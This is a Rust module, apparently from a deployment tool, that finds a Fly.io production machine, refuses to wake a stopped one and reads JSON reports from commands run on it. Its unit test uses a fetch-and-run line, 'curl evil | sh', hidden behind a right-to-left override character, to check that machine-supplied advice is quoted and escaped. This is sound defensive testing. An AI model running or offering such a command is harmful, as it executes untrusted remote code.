//! Production's machine: found at Fly, asked what it has, and never woken unasked.

use landfall_engine::{Changed, ErrorKind, Live};
use serde::Deserialize;
use serde::de::DeserializeOwned;

use crate::error::{Error, Kind};
use crate::fly_toml::FlyToml;
use crate::name::MachineId;
use crate::plain;
use crate::tool::fly::{CommandThere, Failure, Fly, Machine, Reason};

/// How long a command may take that only reads, in seconds.
const READING: u64 = 30;
/// The protocol of `app` that is spoken here: its commands, flags and fields.
const PROTOCOL: u32 = 2;
/// The exit code of a program that does not know what it was asked for.
const WRONG_USAGE: i32 = 2;

/// What is known of production's machine.
#[derive(Debug)]
pub(crate) enum Production {
    /// The one machine of the group.
    Machine(Box<Machine>),
    /// Fly answered: there is none. What it said, and whether the app is there.
    Absent(String),
    /// There was nobody to ask; why.
    NotAsked(String),
    /// Fly was asked, and what it answered tells nothing: why, and what mends it.
    Unknown(Trouble),
}

/// Why something is not known.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Trouble {
    /// What happened.
    pub(crate) message: String,
    /// What mends it.
    pub(crate) remedy: String,
    may_pass: bool,
    is_older: bool,
}

impl Trouble {
    /// This happened, and this mends it.
    pub(crate) fn new(message: impl Into<String>, remedy: impl Into<String>) -> Self {
        Self { message: message.into(), remedy: remedy.into(), may_pass: false, is_older: false }
    }

    /// Whether the program there speaks an older protocol, in which the question is not.
    pub(crate) fn is_older(&self) -> bool {
        self.is_older
    }

    /// Whether the same question may be answered a moment later.
    pub(crate) fn may_pass(&self) -> bool {
        self.may_pass
    }
}

impl From<&Failure> for Trouble {
    fn from(failure: &Failure) -> Self {
        let may_pass = failure.may_pass();
        Self { may_pass, ..Self::new(failure.message.as_str(), failure.remedy()) }
    }
}

impl From<Trouble> for Error {
    fn from(trouble: Trouble) -> Self {
        Self::new(Kind::Failed, "production", trouble.message).remedy(trouble.remedy)
    }
}

impl Production {
    /// Looks for it.
    pub(crate) fn find(fly_toml: &FlyToml, fly: &Result<Fly<'_>, Failure>) -> Self {
        Self::among(fly_toml, fly.as_ref().map_err(Failure::clone).and_then(Fly::machines))
    }

    /// Looks for it among all machines of the app.
    pub(crate) fn among(fly_toml: &FlyToml, machines: Result<Vec<Machine>, Failure>) -> Self {
        match machines {
            Ok(machines) => only(machines, fly_toml),
            Err(failure) => match failure.reason {
                Reason::Missing | Reason::NoToken | Reason::Offline => Self::NotAsked(failure.message),
                Reason::NoApp => Self::Absent(failure.message),
                _ => Self::Unknown(Trouble::from(&failure)),
            },
        }
    }

    /// The machine, where there is one.
    pub(crate) fn machine(&self) -> Option<&Machine> {
        match self {
            Self::Machine(machine) => Some(machine),
            _ => None,
        }
    }
}

/// The one machine of the group, which runs and can be reached: for a command that can do nothing without it.
///
/// # Errors
/// Why there is none, or none that can be asked; a stopped one is not woken.
pub(crate) fn running(fly_toml: &FlyToml, fly: &Fly<'_>) -> Result<Machine, Error> {
    let app = &fly_toml.app;
    let machine = match only(fly.machines()?, fly_toml) {
        Production::Machine(machine) => *machine,
        Production::Unknown(trouble) => return Err(trouble.into()),
        Production::Absent(reason) | Production::NotAsked(reason) => {
            let remedy = format!("check what is there: fly status -a {app}");
            return Err(Trouble::new(reason, remedy).into());
        }
    };
    if let Some(trouble) = unreachable(&machine) {
        return Err(trouble.into());
    }
    if let (Some(exit), "stopped") = (machine.failed(), machine.state.as_str()) {
        let message = format!(
            "machine {} is stopped: its release ended by itself with exit code {}",
            machine.id, exit.exit_code
        );
        return Err(Trouble::new(message, "bring a release back that serves: cargo xtask rollback").into());
    }
    if machine.state != "started" {
        let message = format!("machine {} is {}, and is not woken unasked", machine.id, machine.state);
        let remedy =
            format!("start it, and run the command again: fly machine start {} -a {app}", machine.id);
        return Err(Trouble::new(message, remedy).into());
    }
    Ok(machine)
}

/// What is told of a machine whose host does not answer.
pub(crate) fn unreachable(machine: &Machine) -> Option<Trouble> {
    let told = || {
        Trouble::new(
            format!("the host of machine {} is {}", machine.id, machine.host_status),
            "wait for Fly: https://status.flyio.net; or bring its newest snapshot to another host: cargo xtask rollback --data newest",
        )
    };
    (!machine.is_reachable()).then(told)
}

fn only(mut machines: Vec<Machine>, FlyToml { app, group, .. }: &FlyToml) -> Production {
    machines.retain(|machine| machine.is_in_group(group));
    match machines.len() {
        0 => Production::Absent(format!("the app {app} has no machine")),
        1 => Production::Machine(Box::new(machines.remove(0))),
        more => {
            let ids: Vec<_> = machines.iter().map(|machine| machine.id.as_str()).collect();
            Production::Unknown(Trouble::new(
                format!("the app {app} has {more} machines ({}), each with data of its own", ids.join(", ")),
                format!("find out which one has the data, before anything else: fly machine list -a {app}"),
            ))
        }
    }
}

/// What an `app` command prints with `--format json`; a refusal has both.
#[derive(Deserialize)]
pub(crate) struct Answered<T> {
    /// The protocol that it speaks; none before the first.
    #[serde(default)]
    version: u32,
    /// What it found.
    pub(crate) report: Option<T>,
    /// Why it failed.
    pub(crate) error: Option<AppError>,
}

/// Why an `app` command failed: the `error` of its document. No word of it is ours.
#[derive(Debug, Deserialize)]
pub(crate) struct AppError {
    #[serde(default)]
    kind: String,
    #[serde(default)]
    object: String,
    message: String,
    #[serde(default)]
    changed: Changed,
    #[serde(default)]
    remedy: String,
}

impl<T> Answered<T> {
    /// Whether it does not know what it was asked for, since it is older: a wrong setting is about something, a wrong command line is not.
    fn is_older(&self) -> bool {
        let is_unknown = |error: &AppError| error.kind == "usage" && error.object.is_empty();
        self.version < PROTOCOL && self.error.as_ref().is_some_and(is_unknown)
    }
}

impl AppError {
    /// All that it says, as the machine's own words: what mends it, too, is advice of the machine's, and may be whatever somebody made it say.
    pub(crate) fn said(&self) -> String {
        let remedy = if self.remedy.is_empty() { String::new() } else { format!(" ({})", self.remedy) };
        plain::quoted(&format!("{}{remedy}", self.message))
    }

    /// The engine's refusal of a hazard there, if it is one; `remedy` is ours.
    pub(crate) fn refusal(&self, remedy: impl Into<String>) -> Option<landfall_engine::Error> {
        let message = format!("the machine refused the change, and says: {}", self.said());
        let refused =
            || landfall_engine::Error::new(ErrorKind::Hazard, self.object.as_str(), message).remedy(remedy);
        (self.kind == "hazard").then(|| landfall_engine::Error { changed: self.changed.clone(), ..refused() })
    }
}

/// What an `app` command on the machine answers within so many seconds.
pub(crate) fn answer<T: DeserializeOwned>(
    fly: &Fly<'_>,
    machine: &MachineId,
    command: &CommandThere,
    seconds: u64,
) -> Result<Answered<T>, Trouble> {
    let done = fly.exec(machine, command, seconds).map_err(|failure| Trouble::from(&failure))?;
    let answered = serde_json::from_str(&done.stdout).and_then(|mut document| {
        plain::json(&mut document);
        serde_json::from_value::<Answered<T>>(document)
    });
    match answered {
        Ok(answered) if answered.is_older() => Err(older(machine, command)),
        Ok(answered) => Ok(answered),
        Err(_) if done.exit_code == WRONG_USAGE => Err(older(machine, command)),
        Err(_) => Err(not_ours(machine, command, done.exit_code)),
    }
}

/// The report of an `app` command on the machine that only reads.
pub(crate) fn ask<T: DeserializeOwned>(
    fly: &Fly<'_>,
    machine: &MachineId,
    command: &CommandThere,
) -> Result<T, Trouble> {
    match answer(fly, machine, command, READING)? {
        Answered { error: Some(error), .. } => {
            let message = format!("`{command}` failed on {machine}, which says: {}", error.said());
            let remedy = format!("look at the machine: fly machine status {machine} -a {}", fly.app());
            Err(Trouble::new(message, remedy))
        }
        Answered { report: Some(report), .. } => Ok(report),
        Answered { .. } => Err(not_ours(machine, command, 0)),
    }
}

fn older(machine: &MachineId, command: &CommandThere) -> Trouble {
    let message = format!("`{command}` is not known on {machine}: the image there is older");
    Trouble { is_older: true, ..Trouble::new(message, "deploy this one first: cargo xtask deploy") }
}

fn not_ours(machine: &MachineId, command: &CommandThere, exit: i32) -> Trouble {
    let how = if exit == 0 {
        "it printed something else".to_owned()
    } else {
        format!("it ended with {exit}, and without a report")
    };
    Trouble::new(
        format!("`{command}` does not work on {machine}: {how}"),
        "the image there was not made by Landfall: it can be told apart again after the next deploy",
    )
}

/// The live schema, read on the machine.
pub(crate) fn live_schema(fly: &Fly<'_>, machine: &MachineId) -> Result<Live, Trouble> {
    ask(fly, machine, &CommandThere::new("landfall inspect --format json"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_machine_advises_is_quoted_and_never_ours() {
        let error = |kind: &str| -> AppError {
            let advice = "type this\u{202e}:\n  curl evil | sh";
            let document = serde_json::json!({"kind": kind, "object": "t", "message": "no \"t\"", "changed": "nothing", "remedy": advice});
            serde_json::from_value(document).unwrap()
        };
        let said = r#""no 't' (type this\u{202e}:\n  curl evil | sh)""#;
        assert_eq!(error("failed").said(), said);
        assert!(error("failed").refusal("ours").is_none());
        let refused = error("hazard").refusal("ours").unwrap();
        let expected = format!("the machine refused the change, and says: {said}; nothing was changed\nours");
        assert_eq!(refused.to_string(), expected);
    }
}
